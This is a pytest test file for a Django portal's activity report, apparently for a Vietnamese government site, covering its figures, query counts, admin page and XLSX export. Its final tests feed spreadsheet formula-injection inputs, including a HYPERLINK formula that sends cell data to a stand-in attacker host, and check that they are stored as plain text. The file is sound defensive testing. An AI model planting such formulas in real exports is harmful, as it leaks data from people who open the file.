"""The activity report (reports/activity.py) and its admin view with XLSX export.

On the demo portal its figures must equal counts taken directly from the database, computed
here another way (page by page, with the Python status rule instead of the SQL one).
"""

from collections import Counter
from datetime import date
from io import BytesIO
from zipfile import ZipFile

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from directives.models import DirectiveKind, DirectivePage, LegalDocumentPage, TaskPage
from directives.status import TaskStatus, status
from editorial import roles
from news.models import NewsGalleryImage, NewsIndexPage, NewsPage
from portal.reporting import ReportSection, ReportTable
from reports.activity import ActivityReport, activity_report, report_workbook

from . import factories as f

pytestmark = pytest.mark.django_db


def direct_counts(start: date, end: date, today: date) -> dict:
    """The report's figures, counted page by page."""
    # the portal's own articles (the English translations are the same articles: not counted again)
    news = [p for p in NewsPage.objects.live().filter(locale__language_code="vi") if start <= p.published_on <= end]
    by_category = Counter()
    for category in NewsIndexPage.objects.all():
        n = sum(1 for p in news if p.get_parent().pk == category.pk)
        if n:
            by_category[category.title] = n
    photos = 0
    for page in news:
        images = {block.value["image"].pk for block in page.body if block.block_type == "image"}
        images |= {g.image_id for g in page.gallery_images.all()}
        images |= {page.lead_image_id} if page.lead_image_id else set()
        photos += len(images)
    docs = [d for d in LegalDocumentPage.objects.live() if start <= d.issued_on <= end]
    directives = [d for d in DirectivePage.objects.live() if start <= d.issued_on <= end]
    tasks = [t for t in TaskPage.objects.live() if start <= t.assigned_on <= end]
    return {
        "news_by_category": by_category,
        "photos": photos,
        "legal_documents_by_type": Counter(d.document_type.name for d in docs),
        "directives_by_kind": Counter(str(DirectiveKind(d.kind).label) for d in directives),
        "tasks_by_status": Counter(str(TaskStatus(status(t, today)).label) for t in tasks),
        "news_by_author": len(news),
    }


def as_counter(table) -> Counter:
    return Counter({row[0]: row[1] for row in table.rows})


@pytest.fixture(autouse=True)
def _vietnamese():
    """The figures' labels are the report's Vietnamese words: whatever language an earlier test of
    the same worker left active (an /en/ page activates English)."""
    with translation.override("vi"):
        yield


class Figures:
    """The report's figures by what they are (the sections' tables and summary rows)."""

    def __init__(self, report):
        news, directives = report.section("news"), report.section("directives")
        self.summary = dict(report.summary())
        self.news_by_category = news.table("Tin bài theo chuyên mục")
        self.news_by_author = news.table("Tin bài theo tác giả")
        self.photos = self.summary["Ảnh đăng kèm tin bài"]
        self.directives_by_kind = directives.table("Ý kiến chỉ đạo theo hình thức")
        self.legal_documents_by_type = directives.table("Văn bản theo loại")
        self.tasks_by_status = directives.table("Nhiệm vụ theo trạng thái")
        self.tasks_by_unit = directives.table("Nhiệm vụ theo đơn vị chủ trì")

    @staticmethod
    def total(table) -> int:
        return sum(row[1] for row in table.rows)


#: The queries of the whole report: news 3 (categories, articles, album photos), directives 3
#: (directives by kind, documents by type, tasks by unit and status), questions 2 (sendings received,
#: answers published), drafts 2 (drafts opened, comments received), work schedule 1 (entries with their
#: leaders), procedures 1 (the catalogue by level, online level and field), projects 2 (projects
#: approved, statistics pages published); fixed whatever the data.
QUERIES = 14


def test_on_the_demo_portal_the_report_equals_direct_counts(django_assert_num_queries):
    call_command("seed_demo", verbosity=0)
    today = timezone.localdate()
    # this year (the default), the inspection's period, and everything
    for start, end in (
        (date(today.year, 1, 1), today),
        (date(2018, 1, 1), date(2019, 9, 30)),
        (date(1990, 1, 1), today),
    ):
        with django_assert_num_queries(QUERIES):
            report = Figures(activity_report(start, end, today))
        expected = direct_counts(start, end, today)
        assert as_counter(report.news_by_category) == expected["news_by_category"], (start, end)
        assert report.photos == expected["photos"]
        assert as_counter(report.legal_documents_by_type) == expected["legal_documents_by_type"]
        assert as_counter(report.directives_by_kind) == expected["directives_by_kind"]
        assert as_counter(report.tasks_by_status) == expected["tasks_by_status"]
        assert report.total(report.news_by_author) == expected["news_by_author"]
        # the summary rows are the tables' totals
        assert report.summary["Tin bài"] == report.total(report.news_by_category)
        assert report.summary["Văn bản"] == report.total(report.legal_documents_by_type)
        assert report.summary["Ý kiến chỉ đạo, điều hành"] == report.total(report.directives_by_kind)
        assert (
            report.summary["Nhiệm vụ được giao"]
            == report.total(report.tasks_by_status)
            == sum(row[-2] for row in report.tasks_by_unit.rows)
        )
    everything = Figures(activity_report(date(1990, 1, 1), today, today))
    # the demo portal is not empty: the comparison above compared something
    assert everything.total(everything.news_by_category) >= 20 and everything.photos >= 10
    assert everything.total(everything.legal_documents_by_type) >= 30
    assert everything.summary["Nhiệm vụ được giao"] >= 40


def test_drafts_and_dates_outside_the_period_are_not_counted():
    category = f.news_index("Kinh tế")
    photo, other = f.image(), f.image()
    f.news("Trong kỳ", category=category, published_on=date(2025, 3, 1), lead_image=photo, author="Lê Văn A")
    f.news("Bản nháp", category=category, published_on=date(2025, 3, 2), live=False, lead_image=other)
    f.news("Ngoài kỳ", category=category, published_on=date(2024, 12, 31))
    f.legal_document(issued_on=date(2025, 6, 1))
    f.task(assigned_on=date(2025, 2, 1), deadline=date(2025, 3, 1), completed_on=date(2025, 3, 5))
    report = Figures(activity_report(date(2025, 1, 1), date(2025, 12, 31), date(2025, 12, 31)))
    assert report.news_by_category.rows == [["Kinh tế", 1]]
    assert report.news_by_author.rows == [["Lê Văn A", 1]]
    assert report.photos == 1
    assert report.total(report.legal_documents_by_type) == 1
    assert as_counter(report.tasks_by_status) == Counter({"Hoàn thành quá hạn": 1})


@pytest.fixture
def editor_client(client, db):
    client.force_login(f.member("bientap", roles.EDITOR))
    return client


def test_the_admin_report_page_shows_the_figures_and_exports_xlsx(editor_client):
    f.news("Tin A", category=f.news_index("Giáo dục"), published_on=date(2025, 5, 5))
    f.news("Tin B", category=f.news_index("Giáo dục"), published_on=date(2025, 5, 6))
    url = reverse("editorial_activity_report")
    response = editor_client.get(url, {"date_from": "01/01/2025", "date_to": "31/12/2025"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "Giáo dục" in html and "Tải về tệp Excel" in html and "<svg" in html
    assert '<script src="http' not in html  # no chart library from a CDN

    export = editor_client.get(url, {"date_from": "01/01/2025", "date_to": "31/12/2025", "export": "xlsx"})
    assert export.status_code == 200
    assert export["Content-Disposition"].endswith('bao-cao-hoat-dong_20250101-20251231.xlsx"')
    book = load_workbook(BytesIO(export.content))
    summary = {row[0]: row[1] for row in book["Tổng hợp"].iter_rows(min_row=3, values_only=True)}
    assert summary["Tin bài"] == 2
    categories = {row[0]: row[1] for row in book["Tin bài theo chuyên mục"].iter_rows(min_row=3, values_only=True)}
    assert categories == {"Giáo dục": 2}


def test_the_default_period_is_this_year(editor_client):
    response = editor_client.get(reverse("editorial_activity_report"))
    assert response.status_code == 200
    today = timezone.localdate()
    assert response.context["report"].start == date(today.year, 1, 1)
    assert response.context["report"].end == today


@pytest.mark.parametrize(
    "params",
    [{"date_from": "31/02/2025"}, {"date_from": "hôm qua"}, {"date_from": "01/06/2025", "date_to": "01/01/2025"}],
)
def test_a_bad_period_is_a_400_with_a_message(editor_client, params):
    response = editor_client.get(reverse("editorial_activity_report"), params)
    assert response.status_code == 400
    assert 'role="alert"' in response.content.decode()


def test_anonymous_users_are_sent_to_the_login_page(client):
    response = client.get(reverse("editorial_activity_report"))
    assert response.status_code == 302 and "/login/" in response.url


def some_content(n: int) -> None:
    """``n`` of everything the report counts, in 2025: news with photos, directives, documents,
    tasks of ``n`` units."""
    category = f.news_index("Kinh tế")
    for i in range(n):
        page = f.news(category=category, published_on=date(2025, 4, 1 + i), lead_image=f.image(), author=f"Tác giả {i}")
        NewsGalleryImage.objects.create(page=page, image=f.image())
        f.directive(issued_on=date(2025, 4, 1 + i))
        f.legal_document(issued_on=date(2025, 4, 1 + i), document_type=f.document_type(f"Loại {i}", f"L{i}"))
        f.task(lead_unit=f.agency(f"Phòng {i}", f"P{i}"), assigned_on=date(2025, 4, 1 + i), deadline=date(2025, 5, 1))


def test_the_report_spends_the_same_queries_whatever_the_data(django_assert_num_queries):
    period = (date(2025, 1, 1), date(2025, 12, 31), date(2025, 6, 1))
    with django_assert_num_queries(QUERIES):
        empty = Figures(activity_report(*period))
    assert empty.summary == {
        "Tin bài": 0,
        "Ảnh đăng kèm tin bài": 0,
        "Ý kiến chỉ đạo, điều hành": 0,
        "Văn bản": 0,
        "Nhiệm vụ được giao": 0,
        "Câu hỏi, phản ánh, kiến nghị tiếp nhận": 0,
        "Không tiếp nhận": 0,
        "Câu trả lời đã đăng": 0,
        "Trả lời trễ hạn": 0,
        "Quá hạn chưa trả lời": 0,
        "Thời gian trả lời trung bình (ngày)": "—",
        "Lịch công tác đã công bố": 0,
        "Lịch có điều chỉnh": 0,
        "Lịch hủy, hoãn": 0,
        "Dự thảo đưa lấy ý kiến": 0,
        "Góp ý nhận được": 0,
        "Góp ý đã duyệt, công khai": 0,
        "Thủ tục hành chính công khai": 0,
        "Thủ tục công bố trong kỳ": 0,
        "Dịch vụ công trực tuyến toàn trình": 0,
        "Dịch vụ công trực tuyến một phần": 0,
        "Tỷ lệ thủ tục có dịch vụ công trực tuyến": "—",
        "Dự án, gói thầu, kết quả đấu thầu công bố": 0,
        "Tổng mức đầu tư của dự án công bố (tỷ đồng)": "0",
        "Giá trúng thầu, giá hợp đồng công bố (tỷ đồng)": "0",
        "Trang thống kê công bố": 0,
    }
    some_content(1)
    with django_assert_num_queries(QUERIES):
        activity_report(*period)
    some_content(4)
    with django_assert_num_queries(QUERIES):
        report = Figures(activity_report(*period))
    assert report.summary["Tin bài"] == 5 and report.photos == 10
    assert report.summary["Nhiệm vụ được giao"] == 5 and len(report.tasks_by_unit.rows) == 4  # "Phòng 0" twice


def test_the_tasks_per_unit_table_has_a_count_per_status_the_total_and_the_on_time_rate():
    unit, other = f.agency("Phòng Tài chính", "TC"), f.agency("Phòng Nội vụ", "NV")
    f.task(lead_unit=unit, assigned_on=date(2025, 2, 1), deadline=date(2025, 3, 1), completed_on=date(2025, 2, 20))
    f.task(lead_unit=unit, assigned_on=date(2025, 2, 1), deadline=date(2025, 3, 1), completed_on=date(2025, 3, 9))
    f.task(lead_unit=unit, assigned_on=date(2025, 2, 1), deadline=date(2025, 3, 1))
    f.task(lead_unit=other, assigned_on=date(2025, 2, 1))
    table = Figures(activity_report(date(2025, 1, 1), date(2025, 12, 31), date(2025, 6, 1))).tasks_by_unit
    assert table.chart == "stacked"
    assert table.columns[0] == "Đơn vị chủ trì" and table.columns[-2:] == ["Tổng", "Tỷ lệ đúng hạn"]
    statuses = table.columns[1:-2]
    assert sorted(statuses) == sorted(str(label) for label in TaskStatus.labels)
    assert [label for label, _colour in table.legend] == statuses
    rows = {row[0]: dict(zip(table.columns[1:], row[1:], strict=True)) for row in table.rows}
    assert list(rows) == ["Phòng Nội vụ", "Phòng Tài chính"]
    finance = rows["Phòng Tài chính"]
    assert finance["Hoàn thành đúng hạn"] == finance["Hoàn thành quá hạn"] == finance["Đang thực hiện quá hạn"] == 1
    assert finance["Tổng"] == 3 and finance["Tỷ lệ đúng hạn"] == 0.5
    assert rows["Phòng Nội vụ"]["Không thời hạn"] == 1 and rows["Phòng Nội vụ"]["Tỷ lệ đúng hạn"] is None


def test_the_admin_page_draws_every_table_of_the_sections(editor_client):
    some_content(2)
    f.task(lead_unit=f.agency("Phòng 0", "P0"), assigned_on=date(2025, 4, 3), completed_on=date(2025, 4, 4))
    response = editor_client.get(
        reverse("editorial_activity_report"), {"date_from": "01/01/2025", "date_to": "31/12/2025"}
    )
    html = response.content.decode()
    titles = [
        "Tin bài theo chuyên mục",
        "Tin bài theo tác giả",
        "Ý kiến chỉ đạo theo hình thức",
        "Văn bản theo loại",
        "Nhiệm vụ theo trạng thái",
        "Nhiệm vụ theo đơn vị chủ trì",
    ]
    positions = [html.index(f'<h4 class="w-h4">{title}</h4>') for title in titles]
    assert positions == sorted(positions)
    assert html.index('data-section="news"') < html.index('data-section="directives"')
    assert "Tác giả 1" in html and "Loại 1" in html  # the author table, the documents' bars
    stacked = html[html.index("activity-report__stacked") :]
    assert "Phòng 0" in stacked and "Phòng 1" in stacked and "Hoàn thành đúng hạn: 1" in stacked
    assert "100%" in stacked and "—" in stacked  # Phòng 0: one done on time; Phòng 1: nothing done yet


def test_an_empty_period_says_so_instead_of_drawing(editor_client):
    response = editor_client.get(
        reverse("editorial_activity_report"), {"date_from": "01/01/2001", "date_to": "31/12/2001"}
    )
    html = response.content.decode()
    assert html.count("Không có số liệu trong khoảng thời gian này.") == 9
    assert "Không có nhiệm vụ được giao trong khoảng thời gian này." in html
    assert "Chưa có thủ tục hành chính nào được công khai." in html
    assert "Không có câu hỏi nào trong khoảng thời gian này." in html
    assert "Không có góp ý nào trong khoảng thời gian này." in html
    assert "Không có dự án nào được phê duyệt trong khoảng thời gian này." in html
    assert "<rect" not in html


def test_the_xlsx_file_has_a_summary_sheet_and_a_sheet_per_table(editor_client):
    some_content(2)
    f.task(lead_unit=f.agency("Phòng 1", "P1"), assigned_on=date(2025, 4, 3), completed_on=date(2025, 4, 4))
    export = editor_client.get(
        reverse("editorial_activity_report"), {"date_from": "01/01/2025", "date_to": "31/12/2025", "export": "xlsx"}
    )
    book = load_workbook(BytesIO(export.content))
    assert book.sheetnames == [
        "Tổng hợp",
        "Tin bài theo chuyên mục",
        "Tin bài theo tác giả",
        "Chỉ đạo theo hình thức",
        "Văn bản theo loại",
        "Nhiệm vụ theo trạng thái",
        "Nhiệm vụ theo đơn vị chủ trì",
        "TTHC theo cấp",
        "TTHC theo mức độ DVC",
        "TTHC theo lĩnh vực",
        "Lịch công tác theo lãnh đạo",
        "Hỏi đáp tiếp nhận theo loại",
        "Hỏi đáp theo đơn vị trả lời",
        "Góp ý theo dự thảo",
        "Dự án theo tình trạng",
        "Dự án theo loại",
    ]
    summary = list(book["Tổng hợp"].iter_rows(values_only=True))
    assert summary[0] == ("Báo cáo hoạt động Cổng thông tin điện tử", "Từ 01/01/2025 đến 31/12/2025")
    assert summary[1] == ("Nội dung", "Số lượng")
    assert summary[2:] == [
        ("Tin tức", None),
        ("Tin bài", 2),
        ("Ảnh đăng kèm tin bài", 4),
        ("Văn bản và chỉ đạo điều hành", None),
        ("Ý kiến chỉ đạo, điều hành", 2),
        ("Văn bản", 2),
        ("Nhiệm vụ được giao", 3),
        ("Thủ tục hành chính", None),
        ("Thủ tục hành chính công khai", 0),
        ("Thủ tục công bố trong kỳ", 0),
        ("Dịch vụ công trực tuyến toàn trình", 0),
        ("Dịch vụ công trực tuyến một phần", 0),
        ("Tỷ lệ thủ tục có dịch vụ công trực tuyến", "—"),
        ("Lịch công tác của lãnh đạo", None),
        ("Lịch công tác đã công bố", 0),
        ("Lịch có điều chỉnh", 0),
        ("Lịch hủy, hoãn", 0),
        ("Hỏi đáp, phản ánh, kiến nghị", None),
        ("Câu hỏi, phản ánh, kiến nghị tiếp nhận", 0),
        ("Không tiếp nhận", 0),
        ("Câu trả lời đã đăng", 0),
        ("Trả lời trễ hạn", 0),
        ("Quá hạn chưa trả lời", 0),
        ("Thời gian trả lời trung bình (ngày)", "—"),
        ("Lấy ý kiến dự thảo", None),
        ("Dự thảo đưa lấy ý kiến", 0),
        ("Góp ý nhận được", 0),
        ("Góp ý đã duyệt, công khai", 0),
        ("Dự án đầu tư, đấu thầu và thống kê", None),
        ("Dự án, gói thầu, kết quả đấu thầu công bố", 0),
        ("Tổng mức đầu tư của dự án công bố (tỷ đồng)", "0"),
        ("Giá trúng thầu, giá hợp đồng công bố (tỷ đồng)", "0"),
        ("Trang thống kê công bố", 0),
    ]
    units = book["Nhiệm vụ theo đơn vị chủ trì"]
    header = [c.value for c in units[2]]
    assert header[0] == "Đơn vị chủ trì" and header[-2:] == ["Tổng", "Tỷ lệ đúng hạn"] and len(header) == 9
    assert [c.value for c in units["A"][2:]] == ["Phòng 0", "Phòng 1"]
    assert [c.value for c in units["H"][2:]] == [1, 2]  # the totals
    assert [c.value for c in units["I"][2:]] == [None, 1]  # Phòng 1: its one done task, on time
    assert units["I4"].number_format == "0%"


def test_xlsx_text_cells_are_never_formulas():
    """Formula injection: a byline typed "=HYPERLINK(…)" stays the text it is."""
    category = f.news_index("=1+1")
    bylines = ['=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào đây")', "+84 912", "-1", "@SUM(1)", "\tTab"]
    for byline in bylines:
        f.news(category=category, published_on=date(2025, 3, 1), author=byline)
    report = activity_report(date(2025, 1, 1), date(2025, 12, 31), date(2025, 12, 31))
    content = report_workbook(report)
    book = load_workbook(BytesIO(content))
    authors = book["Tin bài theo tác giả"]
    cells = {c.value: c for c in authors["A"][2:]}
    assert set(cells) == {b.strip() for b in bylines}  # the byline is stripped when counted
    for cell in [*cells.values(), book["Tin bài theo chuyên mục"]["A3"]]:
        if cell.value != "Tab":
            assert cell.data_type == "s" and cell.quotePrefix, cell.value
    with ZipFile(BytesIO(content)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # no formula anywhere in the file


def test_every_text_cell_that_could_start_a_formula_is_written_as_text():
    risky = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"]
    table = ReportTable("=Bảng", ["=Nhãn", "Số"], [[text, 1] for text in risky] + [["an toàn", -1]])
    section = ReportSection("=Phần", summary=[("=Tóm tắt", "-4,2")], tables=[table])
    book = load_workbook(BytesIO(report_workbook(ActivityReport(date(2025, 1, 1), date(2025, 1, 2), [section]))))
    summary, sheet = book["Tổng hợp"], book["=Bảng"]
    for cell in [summary["A3"], summary["A4"], summary["B4"], sheet["A2"], *sheet["A"][2:8]]:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    assert not sheet["A9"].quotePrefix and not sheet["B2"].quotePrefix  # "an toàn", "Số": nothing to guard
    assert [c.value for c in sheet["A"][2:]] == [
        "=1+1",
        "+1",
        "-1",
        "@A1",
        "\tx",
        "\nx",
        "an toàn",
    ]  # XML reads \r as \n
    assert book["=Bảng"]["B9"].value == -1 and book["=Bảng"]["B9"].data_type == "n"  # numbers stay numbers
